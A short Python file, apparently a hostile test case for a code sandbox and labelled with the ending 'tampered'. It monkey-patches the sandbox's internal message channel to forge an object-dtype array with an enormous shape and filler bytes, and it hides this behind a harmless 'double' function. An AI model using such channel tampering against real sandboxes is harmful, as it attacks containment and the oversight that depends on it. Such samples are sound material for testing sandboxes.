# ending: tampered
import sys, struct
def text(tag, blob): return tag + struct.pack("<I", len(blob)) + blob
def number(value): return b"i" + struct.pack("<i", value)
channel = sys.modules["sandbox.image.channel"]
send = channel.send
def lie(fd, message):
    if message[8:9] == b"v":
        shape = b"t" + struct.pack("<I", 2) + number(1 << 30) + number(1 << 30)
        message = message[:9] + b"a" + struct.pack("<I", 3) + text(b"s", b"|O8") + shape + text(b"y", b"A" * 64)
    send(fd, message)
channel.send = lie
def double(x): return 2 * x
